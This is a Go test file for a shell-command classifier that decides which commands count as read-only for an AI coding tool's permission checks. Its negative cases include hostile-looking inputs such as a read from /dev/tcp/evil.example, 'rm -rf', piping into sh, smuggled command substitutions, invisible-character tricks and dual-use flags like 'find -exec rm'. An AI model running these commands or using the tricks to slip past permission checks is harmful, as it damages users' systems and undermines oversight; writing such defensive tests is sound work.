package shell

import (
	"strings"
	"testing"
)

// The read-only table and its cases come from the Bash tool's classifier
// (internal/tools/bash), which now uses this package. Cases cite the
// documentation or the security.md item they come from.
func TestReadOnly(t *testing.T) {
	const (
		none = iota
		S    = 1 << iota // search
		R                // read
		L                // list
	)
	cases := []struct {
		cmd      string
		readOnly bool
		kinds    int
	}{
		// https://code.claude.com/docs/en/permissions#read-only-commands
		{"ls", true, L},
		{"ls -la src/", true, L},
		{"pwd", true, L},
		{"du -sh .", true, L},
		{"tree -L 2 -I node_modules", true, L},
		{"cat x", true, R},
		{"cat x\n", true, R},
		{"head -n 5 a.txt | tail -n 2", true, R},
		{"wc -l a b c", true, R},
		{"jq .name package.json", true, R},
		{"sort -k2 -n x | uniq -c", true, R},
		{"uniq -f 1 x", true, R},
		{"uniq --skip-fields 1 x", true, R},
		{"uniq -", true, R},
		{"cut -d: -f1 /etc/passwd | sort -u", true, R},
		{"diff -u a b", true, R},
		{"stat -c %s x", true, R},
		{"file x", true, R},
		{"grep -rn foo .", true, S},
		{"grep -r foo . | head -20", true, S | R},
		{"find . -name '*.go'", true, S},
		{`find . -name "*.go" -type f | wc -l`, true, S | R},
		{"find . -newer x -print0", true, S},
		{"rg -n foo src", true, S},
		{"rg --pre-glob '*.gz' --passthru foo", true, S},
		{"ag foo", true, S},
		{"ack foo", true, S},
		{"which go; whereis ls", true, S},
		{"echo hi", true, none},
		{"echo hi | cat", true, R},
		{"true && false", true, none},
		{"ls # comment", true, L},
		// security.md R7: quote splicing runs the same program
		{`c''at x`, true, R},
		{`"cat" x`, true, R},
		{`\cat x`, true, R},
		{`c'a't x`, true, R},
		// https://code.claude.com/docs/en/permissions#read-only-commands:
		// unquoted globs are fine for commands whose every flag is read-only
		{"cat $HOME/x ${HOME}/y", true, R},
		{`cat "$f"`, true, R},
		{"cat *.go", true, R},
		{"ls *.ts", true, L},
		// https://code.claude.com/docs/en/permissions#compound-commands
		{"ls && cat x", true, L | R},
		{"ls || pwd", true, L},
		{"ls\ncat x", true, L | R},
		{"ls; cat x", true, L | R},
		{"(ls; pwd)", true, L},
		{"{ ls; cat x; }", true, L | R},
		{"if grep -q x f; then cat f; else ls; fi", true, S | R | L},
		{"while false; do ls; done", true, L},
		{"case x in a) ls ;; *) cat y ;; esac", true, L | R},
		{"! grep -q x f", true, S},
		{"ls &", true, L},
		// https://code.claude.com/docs/en/permissions#redirections
		{"cat x 2>/dev/null", true, R},
		{"cat x >/dev/null 2>&1", true, R},
		{"cat x &>/dev/null", true, R},
		{"ls 2>&1 >/dev/null", true, L},
		{"cat x >&2", true, R},
		{"cat x 2>&-", true, R},
		{"cat < x", true, R},
		{"cat <<'EOF'\nhello $(rm x)\nEOF", true, R},
		{"cat <<< hello", true, R},

		// security.md §1 #3: compound commands with anything else
		{"cat x; rm -rf y", false, none},
		{"ls && curl http://x", false, none},
		{"echo x | sh", false, none},
		{"ls | xargs rm", false, none},
		{"cat x |& tee y", false, none},
		{"ls\nrm x", false, none},
		{"(ls; rm x)", false, none},
		{"if ls; then rm x; fi", false, none},
		{"while ls; do rm x; done", false, none},
		{"case x in *) rm y ;; esac", false, none},

		// security.md R3: substitutions and expansions that run code
		{"cat $(rm x)", false, none},
		{"ls `rm x`", false, none},
		{`cat "$(rm x)"`, false, none},
		{"cat <(rm x)", false, none},
		{"cat x >(rm y)", false, none},
		{"cat <<EOF\n$(rm x)\nEOF", false, none},
		{"echo $((1+2))", false, none},
		{"cat ${x:=y}", false, none},
		{"cat ${!x}", false, none},
		{"cat ${a[$i]}", false, none},
		{"cat ${x/a/b}", false, none},
		{"$CMD x", false, none},
		{"${CMD} x", false, none},
		{`"$(echo cat)" x`, false, none},

		// security.md R4, §1 #5: redirections that write
		{"cat x > y", false, none},
		{"cat x >> y", false, none},
		{"cat x >| y", false, none},
		{"cat x &> y", false, none},
		{"cat x &>> y", false, none},
		{"cat x >& y", false, none},
		{"cat x <> y", false, none},
		{"cat x 2> err.log", false, none},
		{`cat x > "$f"`, false, none},
		{"cat x > /dev/null/../../tmp/y", false, none},
		{"ls {fd}>/dev/null", false, none},
		{"{ cat x; } > y", false, none},
		{"(cat x) > y", false, none},
		{"cat x >&$fd", false, none},
		{"cat < /dev/tcp/evil.example/80", false, none},

		// security.md R2, R5: assignments, definitions, builtins that run code
		{"FOO=1 ls", false, none},
		{"PATH=/tmp ls", false, none},
		{"FOO=1", false, none},
		{"f() { ls; }", false, none},
		{"function f { ls; }; f", false, none},
		{"for PATH in /tmp; do ls; done", false, none},
		{"for f in a; do ls; done", false, none},
		{"for ((i=0; i<3; i++)); do ls; done", false, none},
		{"export A=1", false, none},
		{"declare -a x", false, none},
		{"let x=1", false, none},
		{"((x=1))", false, none},
		// Conditional expressions, as in Claude Code 2.1.332; the forms
		// that evaluate something still ask.
		{"[[ -f x ]]", true, none},
		{"[ -f x ]", true, none},
		{"test -f x", true, none},
		{"echo x | test -f missing", true, none},
		{`[[ "$HOME" == /root && -d /tmp ]]`, false, none},
		{"[[ a =~ ^a ]] || [ -s x ]", true, none},
		{"[[ -v x ]]", false, none},
		{"test -v HOME", false, none},
		{"[ -f $x ]", false, none},
		{"test -f x && cat x", true, R},
		{"[[ $(rm x) ]]", false, none},
		{"[[ -f `rm x` ]]", false, none},
		{"[ -f $(touch y) ]", false, none},
		{"[[ -v x[$(touch y)] ]]", false, none},
		{"[[ -v 'x[$(touch y)]' ]]", false, none},
		{"test -v 'x[$(touch y)]'", false, none},
		{"[ -v 'x[1]' ]", false, none},
		{"test $a $b", false, none},
		{"[[ $x -eq 1 ]]", false, none},
		{"[[ 'a[$(touch y)]' -eq 0 ]]", false, none},
		{"[[ 1 -eq 1 ]]", true, none},
		{"test -f x && rm y", false, none},
		{"[ -f x ] > out", false, none},
		{"[[ -f x ]] > out", false, none},
		{"/usr/bin/test -f x", false, none},
		// Other read-only commands of Claude Code's set.
		{"sleep 1", true, none},
		{"sleep infinity", true, none},
		{"sleep 0.2; echo early; sleep 5", true, none},
		{"cmp a b", true, R},
		{"cmp -l a b", true, R},
		{"od -c f | head -3", true, R},
		{"tac x | rev", true, R},
		{"sha256sum x; md5sum x", true, R},
		{"basename a/b; dirname a/b; realpath x; readlink x", true, none},
		{"id; whoami; uname -a; nproc; groups; uptime; free; df .", true, none},
		{"seq 3; expr 1 + 1; type ls", true, none},
		{"date; date -u +%s; date --iso-8601", true, none},
		{"date -s 2020-01-01", false, none},
		{"date --set=2020-01-01", false, none},
		{"date 01010000", false, none},
		{"date $x", false, none},
		{"hostname; hostname -f", true, none},
		{"hostname evil", false, none},
		{"hostname -F /etc/x", false, none},
		{"hostname -b x", false, none},
		{"hostname --file=/etc/x", false, none},
		{"eval ls", false, none},
		{"source x", false, none},
		{". x", false, none},
		{"coproc ls", false, none},
		{"cd /tmp && ls", false, none},
		{"printf -v x hi", false, none},
		// A wrapped command is not read-only, except under timeout and
		// command, which Claude Code strips for its read-only check
		// (nice, nohup, stdbuf, time, env and xargs ask there).
		{"exec ls", false, none},
		{"command ls", true, L},
		{"time ls", false, none},
		{"timeout 5 cat x", true, R},
		{"nice cat x", false, none},
		{"nice -n 5 cat x", false, none},
		{"nohup cat x", false, none},
		{"stdbuf -o0 cat x", false, none},
		{"env cat x", false, none},
		{"timeout 5 rm x", false, none},
		{"timeout 1 sleep 3", true, none},
		{"timeout -s KILL -k 1 5 cat x", true, R},
		{"timeout 5 sh -c 'rm x'", false, none},
		// Bare xargs is stripped as in Claude Code; the command it runs
		// gets arguments from its input, so a command with dangerous
		// options (find, rg, sort...) still asks, and xargs with options
		// of its own stays the command.
		{"xargs cat < x", false, none},
		{"xargs wc -l < x", true, R},
		{"xargs head -1 < x", true, R},
		{"echo a.txt | xargs grep zzz", true, S},
		{"echo a | xargs", true, none},
		{"xargs < x", true, none},
		{"echo a | xargs echo", true, none},
		{"echo a | xargs sort", false, none},
		{"echo a | xargs od", false, none},
		{"echo a | xargs -0 grep x", false, none},
		{"ls | xargs rm", false, none},
		{"xargs rm -f", false, none},
		{"xargs -I{} sh -c 'rm {}'", false, none},
		{"xargs -I{} cat {}", false, none},
		{"xargs -n1 grep x", false, none},
		{"xargs sh -c 'cat $0'", false, none},
		{"xargs find .", false, none},
		{"xargs sort", false, none},
		{"xargs rg x", false, none},
		{"xargs xargs rm", false, none},
		{"xargs timeout 5 rm x", false, none},
		{"xargs $cmd", false, none},
		// Safe environment prefixes (locale, colour) are stripped; others
		// are not.
		{"LANG=C cat x", true, R},
		{"NO_COLOR=1 LC_ALL=C ls", true, L},
		{"TZ=UTC ls", true, L},
		{"FOO=1 cat x", false, none},
		{"GOFLAGS=-count=1 ls", false, none},
		{"LANG=C PAGER=x cat x", false, none},
		{"LANG=/tmp/x cat x", false, none},
		{"GIT_DIR=x git status", false, none},
		{"sh -c 'ls'", false, none},

		// security.md §2 (openai/codex#37078), R7: command names
		{`r''m x`, false, none},
		{"./cat x", false, none},
		{"/bin/cat x", false, none},
		{"/tmp/x/cat x", false, none},
		{"~/cat x", false, none},
		{`$"cat" x`, false, none},
		{"{cat,x}", false, none},
		{"ca? x", false, none},
		{"ca[t] x", false, none},
		{"awk '{print}' x", false, none},
		{"sed -n 1p x", false, none},
		{"less x", false, none},
		// Read-only git forms (the policy checks the repository's config
		// before it trusts them); global options, writing forms and the
		// options that run programs or write files are not.
		{"git status", true, R},
		{"git status --short", true, R},
		{"git diff --stat", true, R},
		{"git log --oneline -5", true, R},
		{"git show HEAD:a.txt", true, R},
		{"git branch", true, R},
		{"git branch -a", true, R},
		{"git tag", true, R},
		{"git remote -v", true, R},
		{"git stash list", true, R},
		{"git config --get user.name", true, R},
		{"git worktree list", true, R},
		{"git -c core.pager=cat log", false, none},
		{"git --no-pager log", false, none},
		{"git -C sub status", false, none},
		{"git -p log", false, none},
		{"git --git-dir=x status", false, none},
		{"git diff --output=x", false, none},
		{"git diff --out=x", false, none},
		{"git log --output x", false, none},
		{"git diff --ext-diff", false, none},
		{"git log -p --textconv", false, none},
		{"git grep -Ocat x", false, none},
		{"git grep --open-files-in-pager x", false, none},
		{"git branch -d x", false, none},
		{"git branch new", false, none},
		{"git tag -d x", false, none},
		{"git tag v1", false, none},
		{"git config user.name x", false, none},
		{"git config --file x --get a", false, none},
		{"git remote add o /tmp", false, none},
		{"git stash", false, none},
		{"git stash pop", false, none},
		{"git reflog expire --all", false, none},
		{"git worktree add x", false, none},
		{"git fetch", false, none},
		{"git push", false, none},
		{"git commit -m x", false, none},
		{"git checkout x", false, none},
		{"git version", false, none},
		{"git help status", false, none},
		{"git ls-remote .", false, none},
		{"git diff *.txt", false, none},
		{"git log $X", false, none},
		{"./git status", false, none},

		// security.md R10, §1 #6: characters
		{"cat x\r", false, none},
		{"TZ=UTC\recho curl x", false, none},
		{"ls\r\nrm x", false, none},
		{"cat x\u00a0y", false, none},
		{"ls \u202e", false, none},
		{"ls \u200b", false, none},
		{"ls \x1b[2J", false, none},
		{"ls \xff", false, none},
		// https://code.claude.com/docs/en/permissions#read-only-commands: over 10,000 characters
		{"ls " + strings.Repeat("a", MaxCommandLen), false, none},

		// security.md R1: parse failures and empty programs
		{"cat 'x", false, none},
		{"ls )", false, none},
		{"if ls", false, none},
		{"", false, none},
		{"# only a comment", false, none},

		// security.md §1 #11, §2, R9: dual-use flags
		{"find . -delete", false, none},
		{`find . -exec rm {} \;`, false, none},
		{"find . -execdir rm {} +", false, none},
		{`find . -ok rm {} \;`, false, none},
		{`find . -okdir rm {} \;`, false, none},
		{"find . -fprint out", false, none},
		{"find . -fprint0 out", false, none},
		{"find . -fprintf out %p", false, none},
		{"find . -fls out", false, none},
		{"find . -name *.go", false, none},
		{"find . $ARGS", false, none},
		{`find . "-delete"`, false, none},
		{`find . -del''ete`, false, none},
		{"sort -o out x", false, none},
		{"sort -ro out x", false, none},
		{"sort --output=out x", false, none},
		{"sort --output out x", false, none},
		{"sort --out=x y", false, none},
		{"sort --compress-program=sh x", false, none},
		{"sort -output x", false, none},
		{"sort $FLAGS x", false, none},
		{"rg --pre sh foo", false, none},
		{"rg --pre=sh foo", false, none},
		{"rg --hostname-bin=sh foo", false, none},
		{"rg -z foo", false, none},
		{"rg -iz foo", false, none},
		{"rg --search-zip foo", false, none},
		{"rg *", false, none},
		{"tree -o out", false, none},
		{"tree -R -H x", false, none},
		{"uniq in out", false, none},
		{"uniq -c in out", false, none},
		{"uniq in -f1", false, none},
		{"uniq -- in out", false, none},
		{"uniq --=x in", false, none},
		{"file -C -m magic", false, none},
		{"diff -l a b", false, none},
		{"diff --paginate a b", false, none},
		{"ag --pager=sh foo", false, none},
		{"ack --pager=sh foo", false, none},
		{"ack -pager=sh foo", false, none},
		{"ack --output='$x' foo", false, none},
	}
	for _, c := range cases {
		a := Analyze(c.cmd)
		s, r, l := a.Kinds()
		kinds := 0
		if s {
			kinds |= S
		}
		if r {
			kinds |= R
		}
		if l {
			kinds |= L
		}
		if a.ReadOnly() != c.readOnly || kinds != c.kinds {
			t.Errorf("Analyze(%q): ReadOnly %v kinds %03b; want %v %03b (unprovable %q)", c.cmd, a.ReadOnly(), kinds, c.readOnly, c.kinds, a.Unprovable)
		}
	}
}

func TestOptRuleAbbreviations(t *testing.T) {
	// security.md R9: GNU getopt_long takes unambiguous prefixes
	cases := []struct {
		rule optRule
		args []string
		ok   bool
	}{
		{sortRule, []string{"--o=x"}, false},
		{sortRule, []string{"--comp=sh"}, false},
		{sortRule, []string{"-n", "--", "-o"}, false}, // refused even after --: the safe side
		{sortRule, []string{"-rn", "--key=2"}, true},
		{rgRule, []string{"--pr", "x"}, false},
		{rgRule, []string{"--hostname"}, false},
		{rgRule, []string{"-i", "--pre-glob=*.gz"}, true},
		{ackRule, []string{"-pag=sh"}, false},
	}
	for _, c := range cases {
		if got := c.rule.allows(c.args); got != c.ok {
			t.Errorf("%+v.allows(%q) = %v, want %v", c.rule, c.args, got, c.ok)
		}
	}
}
